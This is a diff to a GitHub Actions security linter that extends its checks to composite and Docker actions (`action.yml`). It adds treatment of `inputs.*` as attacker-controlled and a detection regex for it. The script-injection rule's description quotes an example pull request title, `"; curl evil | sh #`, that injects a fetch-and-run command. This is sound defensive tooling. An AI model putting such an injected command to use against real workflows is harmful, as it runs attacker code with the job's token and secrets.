@@ -3,6 +3,12 @@
  * untrusted checkouts in privileged triggers, script injection, permissions,
  * secrets under untrusted triggers, self-hosted runners on pull requests and
  * cache poisoning. Each risk is reported once, at its line.
+ *
+ * Action metadata files (`action.yml`) share the model: a composite action's
+ * `runs.steps` are one job, so the step rules (unpinned `uses:`, script
+ * injection) apply as they are, and `inputs.*` counts as attacker-controlled
+ * there — the action cannot know what its callers pass. Rules about triggers
+ * and the token find nothing in an action, which has neither.
  */
 import type { Finding } from '../../finding.ts';
 import { findingAt, type Rule } from '../../rule.ts';
@@ -48,11 +54,14 @@ export const unpinnedAction: GRule = {
       );
     };
     for (const j of wf.jobs) {
-      const u = entry(j.node, 'uses');
+      // A reusable workflow call (`jobs.<id>.uses`); an action's `runs` has no such key.
+      const u = wf.kind === 'workflow' ? entry(j.node, 'uses') : undefined;
       const v = str(u?.value);
       if (u && v) check(v, u.keyLine);
       for (const s of j.steps) if (s.uses) check(s.uses, s.usesLine);
     }
+    // A Docker action's image: `docker://…` is pulled at every run; a Dockerfile is built from the repository.
+    if (wf.image?.ref.startsWith('docker://')) check(wf.image.ref, wf.image.line);
     return out;
   },
 };
@@ -100,12 +109,19 @@ export const untrustedCheckout: GRule = {
           this,
           ctx,
           { line: c.line },
-          `job ${j.id}: ${c.what} under ${[...wf.triggers].filter((t) => PRIVILEGED_TRIGGERS.includes(t)).join(', ')}`,
+          `${j.label}: ${c.what} under ${[...wf.triggers].filter((t) => PRIVILEGED_TRIGGERS.includes(t)).join(', ')}`,
         ),
       ),
     );
   },
 };
+
+/**
+ * An action's inputs: whatever the calling workflow passes, which may well be
+ * a pull request title (zizmor's template-injection flags them too).
+ */
+const ACTION_INPUT =
+  /\binputs(?:\.[A-Za-z_][A-Za-z0-9_-]*|\[\s*(?:'[^']*'|"[^"]*")\s*\])|toJSON\(\s*inputs\s*\)/;
 
 /** Contexts an outsider can set (GitHub security hardening guide, zizmor). */
 const ATTACKER_CONTEXT =
@@ -117,7 +133,7 @@ export const scriptInjection: GRule = {
   title: 'Attacker-controlled context expanded into a script',
   description:
     // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JS template
-    '`${{ … }}` is pasted into the script text before the shell (or github-script) runs it, so a pull request title like `"; curl evil | sh #` becomes code running with the job\'s token and secrets. Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` and use `"$TITLE"`).',
+    '`${{ … }}` is pasted into the script text before the shell (or github-script) runs it, so a pull request title like `"; curl evil | sh #` becomes code running with the job\'s token and secrets — in bash, PowerShell (`shell: pwsh`, Windows runners) or any other shell alike. In a composite action (`action.yml`) `inputs.*` counts too: the action cannot know what its callers pass. Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` and use `"$TITLE"`, or `$env:TITLE` in PowerShell).',
   references: [
     'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
   ],
@@ -133,16 +149,21 @@ export const scriptInjection: GRule = {
         }
         for (const t of targets)
           for (const e of expressions(wf, t)) {
-            const m = ATTACKER_CONTEXT.exec(e.expr);
-            if (m)
-              out.push(
-                findingAt(
-                  this,
-                  ctx,
-                  { line: e.line, column: e.column },
-                  `job ${j.id}: \${{ ${e.expr} }} is expanded into the script (${m[0]} is attacker-controlled)`,
-                ),
-              );
+            const m =
+              ATTACKER_CONTEXT.exec(e.expr) ??
+              (wf.kind === 'action' ? ACTION_INPUT.exec(e.expr) : null);
+            if (!m) continue;
+            const why = /^(?:github\.|toJSON\(\s*github)/.test(m[0])
+              ? 'is attacker-controlled'
+              : "is whatever the action's caller passes";
+            out.push(
+              findingAt(
+                this,
+                ctx,
+                { line: e.line, column: e.column },
+                `${j.label}: \${{ ${e.expr} }} is expanded into the script (${m[0]} ${why})`,
+              ),
+            );
           }
       }
     return out;
@@ -157,6 +178,8 @@ export const excessivePermissions: GRule = {
     'Without a `permissions:` block the GITHUB_TOKEN gets the repository default, which is read-write on older repositories and organisations; `write-all` grants every scope. Declare `permissions: {}` or `contents: read` at the top and widen per job only what that job needs.',
   references: ['https://docs.zizmor.sh/audits/#excessive-permissions'],
   check(wf, ctx) {
+    // An action runs with the token of the workflow that calls it.
+    if (wf.kind === 'action') return [];
     const out: Finding[] = [];
     const top = entry(wf.root, 'permissions');
     if (top && str(top.value) === 'write-all')
@@ -226,7 +249,7 @@ export const secretsUnderUntrustedTrigger: GRule = {
           this,
           ctx,
           { line },
-          `job ${j.id} uses ${m[0]} under ${UNTRUSTED_TRIGGERS.filter((t) => wf.triggers.has(t)).join(', ')}${runsUntrusted ? ' and checks out the pull request' : ''}`,
+          `${j.label} uses ${m[0]} under ${UNTRUSTED_TRIGGERS.filter((t) => wf.triggers.has(t)).join(', ')}${runsUntrusted ? ' and checks out the pull request' : ''}`,
           {
             severity: runsUntrusted ? 'high' : 'low',
           },
@@ -327,7 +350,7 @@ export const cachePoisoning: GRule = {
         const c = cacheStep(s);
         if (c)
           out.push(
-            findingAt(this, ctx, { line: s.usesLine }, `job ${j.id}: ${c} in a ${why} workflow`),
+            findingAt(this, ctx, { line: s.usesLine }, `${j.label}: ${c} in a ${why} workflow`),
           );
       }
     return out;
